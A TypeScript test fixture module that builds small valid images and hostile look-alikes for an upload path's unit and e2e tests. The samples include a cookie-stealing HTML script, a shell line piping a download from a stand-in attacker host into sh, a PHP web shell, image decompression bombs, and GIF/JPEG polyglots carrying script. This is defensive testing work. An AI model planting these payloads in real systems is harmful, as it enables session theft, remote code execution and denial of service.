// Small, structurally complete images built in code, and the hostile look-alikes the upload
// path must refuse. Shared by the storage unit specs and the upload e2e tests.
import { crc32, deflateSync } from 'node:zlib';

export function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

/** A valid RGB PNG of `width` x `height` pixels (solid colour), with `extra` chunks before IDAT. */
export function pngImage(width = 2, height = 2, extra: Buffer[] = []): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // colour type RGB
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(width * 3, 0x7f)]);
  const raw = Buffer.concat(Array.from({ length: height }, () => row));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    ...extra,
    pngChunk('IDAT', deflateSync(raw)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export function jpegSegment(marker: number, body: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, body]);
}

/**
 * A valid 8x8 grey baseline JPEG (one block, DC 0, EOB; one-code Huffman tables). With
 * `exif: true` it starts with an APP1 Exif segment the way phone cameras write them, and
 * `padding` adds that many bytes inside a COM segment to reach a wanted size.
 */
export function jpegImage(options: { exif?: boolean; padding?: number; extra?: Buffer[]; width?: number; height?: number } = {}): Buffer {
  const parts: Buffer[] = [Buffer.from([0xff, 0xd8])];
  if (options.exif) {
    parts.push(jpegSegment(0xe1, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), Buffer.from('MM\0*\0\0\0\x08\0\0\0\0\0\0', 'latin1')])));
  } else {
    parts.push(jpegSegment(0xe0, Buffer.from([0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0])));
  }
  parts.push(...(options.extra ?? []));
  let padding = options.padding ?? 0;
  while (padding > 0) {
    const n = Math.min(padding, 65533);
    parts.push(jpegSegment(0xfe, Buffer.alloc(n, 0x20)));
    padding -= n;
  }
  parts.push(jpegSegment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])));
  parts.push(jpegSegment(0xc0, frameHeader(options.width ?? 8, options.height ?? 8)));
  const oneCode = Buffer.concat([Buffer.from([1]), Buffer.alloc(15, 0), Buffer.from([0])]);
  parts.push(jpegSegment(0xc4, Buffer.concat([Buffer.from([0x00]), oneCode])));
  parts.push(jpegSegment(0xc4, Buffer.concat([Buffer.from([0x10]), oneCode])));
  parts.push(jpegSegment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])));
  parts.push(Buffer.from([0x3f, 0xff, 0xd9]));
  return Buffer.concat(parts);
}

// SOF0 body: 8-bit precision, height, width, one component.
function frameHeader(width: number, height: number): Buffer {
  const body = Buffer.from([8, 0, 0, 0, 0, 1, 1, 0x11, 0]);
  body.writeUInt16BE(height, 1);
  body.writeUInt16BE(width, 3);
  return body;
}

/** The classic 1x1 transparent GIF89a (43 bytes). */
export function gifImage(): Buffer {
  return Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
}

/** A 1x1 lossless WebP (34 bytes). */
export function webpImage(): Buffer {
  return Buffer.from('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==', 'base64');
}

export const SVG_IMAGE = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><script>alert(document.cookie)</script></svg>\n',
);
export const HTML_PAGE = Buffer.from('<!DOCTYPE html><html><body><script>fetch("/steal?c="+document.cookie)</script></body></html>\n');
export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://attacker.invalid/x | sh\n');
export const PHP_SCRIPT = Buffer.from('<?php system($_GET["cmd"]); ?>\n');

// ---------------------------------------------------------------- bombs

/** A JPEG of a few hundred bytes whose frame header declares 65,535 x 65,535 pixels. */
export function jpegDeclaring(width = 65535, height = 65535): Buffer {
  return jpegImage({ width, height });
}

/** A real PNG bomb: `width` x `height` black pixels that deflate to a small file. */
export function pngBomb(width = 8000, height = 6000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 0; // greyscale
  const raw = Buffer.alloc((width + 1) * height); // filter byte 0 and black pixels, row after row
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

// One 1x1 frame: image descriptor, LZW minimum code size 2, one data sub-block (clear, 0, end).
const GIF_FRAME = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00]);

/** An animated GIF of `frames` 1x1 frames on a `width` x `height` canvas, each with a delay. */
export function gifAnimation(frames: number, width = 1, height = 1): Buffer {
  const head = Buffer.from('GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  const loop = Buffer.from('\x21\xff\x0bNETSCAPE2.0\x03\x01\0\0\0', 'latin1');
  const delay = Buffer.from([0x21, 0xf9, 0x04, 0x00, 0x0a, 0x00, 0x00, 0x00]);
  const frame = Buffer.concat([delay, GIF_FRAME]);
  return Buffer.concat([head, loop, ...Array.from({ length: frames }, () => frame), Buffer.from([0x3b])]);
}

// ---------------------------------------------------------------- polyglots

const SCRIPT = '*/=alert(document.domain);';

/**
 * A GIF that is also valid JavaScript: the canvas width bytes are `/*`, opening a comment that
 * the script appended after the trailer closes; the script ends with `;`, the trailer byte, so a
 * check of the last byte takes it for a complete GIF.
 */
export function gifScriptPolyglot(): Buffer {
  const head = Buffer.from('GIF89a/*\x01\x00\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
  return Buffer.concat([head, GIF_FRAME, Buffer.from(';'), Buffer.from(SCRIPT)]);
}

/** The same script inside a comment extension of a structurally complete GIF (`//` hides the rest). */
export function gifCommentScriptPolyglot(): Buffer {
  const head = Buffer.from('GIF89a/*\x01\x00\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
  const text = Buffer.from(`${SCRIPT}//`);
  const comment = Buffer.concat([Buffer.from([0x21, 0xfe, text.length]), text, Buffer.from([0])]);
  return Buffer.concat([head, comment, GIF_FRAME, Buffer.from(';')]);
}

export const POLYGLOT_HTML = '<html><body><script>alert(document.domain)</script></body></html>';

/** A JPEG followed by an HTML page and the end marker again, so that the file ends with FFD9. */
export function jpegHtmlPolyglot(): Buffer {
  return Buffer.concat([jpegImage(), Buffer.from(POLYGLOT_HTML), Buffer.from([0xff, 0xd9])]);
}

/** A complete JPEG carrying an HTML page in a comment segment. */
export function jpegCommentHtmlPolyglot(): Buffer {
  return jpegImage({ extra: [jpegSegment(0xfe, Buffer.from(POLYGLOT_HTML))] });
}
